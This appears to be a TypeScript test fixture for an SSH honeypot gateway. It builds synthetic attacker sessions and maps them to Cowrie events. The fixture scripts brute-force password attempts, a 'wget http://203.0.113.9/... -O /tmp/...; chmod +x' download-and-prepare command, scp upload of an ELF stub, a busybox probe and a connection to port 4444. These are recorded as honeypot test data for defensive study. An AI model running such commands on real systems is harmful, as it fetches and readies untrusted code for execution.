/** Sessions as a gateway records them, and their events. */
import type { CowrieEvent } from "../../gateway/events/cowrie-event.ts";
import { EventMapper } from "../../gateway/events/event-mapper.ts";
import { toByteString } from "../../gateway/model/bytes.ts";
import type { Entry } from "../../gateway/model/entries.ts";
import { string, u32 } from "../../gateway/ssh/messages/writer.ts";
import { Conversation } from "../evidence/conversation.ts";
import { NETWORK_FACTS } from "../evidence/network-facts.ts";

export const CONTEXT = { uuid: "5f1c1c0e-2a6b-11f1-9d6e-0242ac120002", arch: "linux-x64-lsb" };
export const RECORDING = {
  path: "recordings/2026-11-23/0a1b2c3d4e5f/session.mbr",
  size: 4711,
  sha256: "ab".repeat(32),
};

export function map(entries: readonly Entry[]): CowrieEvent[] {
  const mapper = new EventMapper(CONTEXT);
  return [...entries.flatMap((entry) => mapper.push(entry)), ...mapper.end(RECORDING)];
}

/** A session with something of everything that a recording can tell. */
export function everything(): Conversation {
  const talk = new Conversation().after(21).hello().after(100);
  talk.key("root", false, "refused").password("root", "123456", "refused").after(1000);
  talk.password("root", "p\xe4ss\x00", "accepted").leased();
  const shell = talk.after(500).open();
  talk.request(shell, "env", string("LANG"), string("C.UTF-8")).shell(shell, 132, 43);
  talk
    .gets(shell, "\x1b[?2004hroot@srv01:~# ")
    .sends(shell, "uname -a\r")
    .gets(shell, "uname -a\r\n\x1b[?2004l\rLinux\r\n");
  talk.request(shell, "window-change", u32(80), u32(24), u32(0), u32(0));
  const exec = talk.after(500).open();
  talk.exec(exec, "cat /proc/cpuinfo | grep name | wc -l").gets(exec, "2\n").exits(exec, 0);
  const scp = talk.open();
  talk.exec(scp, "scp -t /tmp/x").sends(scp, "C0755 4 x\n").sends(scp, "\x7fELF\0").exits(scp, 0);
  const forward = talk.forward("203.0.113.9", 80);
  talk.sends(forward, "GET / HTTP/1.0\r\n\r\n");
  talk.packet("downstream", Buffer.from([90, 0, 0, 0, 99]));
  for (const fact of NETWORK_FACTS) talk.fact(fact);
  return talk.after(250);
}

/** Hours of somebody busy: hundreds of tries, commands, files and forwards on many channels, in every order that the protocol allows. */
export function busy(): Conversation {
  const talk = new Conversation("0a1b2c3d4e5f", "2026-12-31T22:00:00.000001Z").hello("SSH-2.0-\xffbot");
  for (let tried = 0; tried < 300; tried++) {
    if (tried % 7 === 0) talk.key(`user${tried}`, false, tried % 2 === 0 ? "refused" : "key-acceptable");
    talk.after(997).password(`us\xe9r${tried}`, `p\0${tried}`, "refused");
  }
  talk.password("root", "x", "accepted").leased();
  for (let round = 0; round < 60; round++) {
    const shell = talk.after(20_000).open();
    const exec = talk.open();
    talk.request(shell, "env", string(`LC_${round}`), string("\xff\x1b[2J")).shell(shell, 80 + round, 24);
    talk.exec(exec, `wget http://203.0.113.9/${round} -O /tmp/${round}; chmod +x /tmp/${round}`);
    talk.gets(shell, "\x1b[?2004hroot@srv01:~# ").sends(shell, `id${round}\r`);
    talk.gets(shell, `id${round}\r\n\x1b[?2004l\rbash: id${round}: command not found\r\n`);
    talk.request(shell, "window-change", u32(80), u32(24 + round), u32(0), u32(0));
    talk.exits(exec, round % 3 === 0 ? 127 : 0);
    const busybox = talk.open();
    talk.exec(busybox, "/bin/busybox ECCHI").exits(busybox, 0);
    const scp = talk.open();
    talk.exec(scp, "scp -t /tmp/x").sends(scp, "C0755 4 x\n").sends(scp, "\x7fELF\0").exits(scp, 0);
    const forward = talk.forward(`host${round}.example`, 443);
    talk.sends(forward, Buffer.from([22, 3, 1, 0, round]));
    talk.packet("downstream", Buffer.from([90, 0, 0, 0, 99]));
    talk.fact(NETWORK_FACTS[round % NETWORK_FACTS.length] as (typeof NETWORK_FACTS)[number]);
  }
  const by = { kind: "process", time: 1_795_000_000_000_000, uid: 0, pid: 300 } as const;
  const path = toByteString(Buffer.from("/tmp/\xff", "latin1"));
  talk.fact({ ...by, did: "run", parent: 1, path, argv: [path], ended: { after: 7, status: 0 } });
  const to = { family: "inet", address: "203.0.113.9", port: 4444 } as const;
  talk.fact({ ...by, did: "connect", to, errno: 111, count: 3 });
  talk.fact({ kind: "process", did: "more", time: by.time, runs: 5, connects: 6 });
  return talk.after(1);
}
